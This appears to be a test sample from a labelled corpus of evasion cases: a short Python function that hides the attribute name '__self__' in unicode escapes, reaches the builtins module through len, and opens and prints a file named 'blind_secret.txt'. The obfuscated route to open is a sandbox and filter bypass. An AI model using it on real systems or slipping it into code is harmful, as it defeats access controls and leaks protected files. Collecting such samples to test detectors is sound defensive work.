# family: runtime (written blind, second set)
def run(path: str) -> str:
    name = "\\u005f\\u005fself\\u005f\\u005f".encode().decode("unicode_escape")
    core = getattr(len, name)
    return core.open(path).read()


print(run("/tmp/r10/work/blind_secret.txt"))
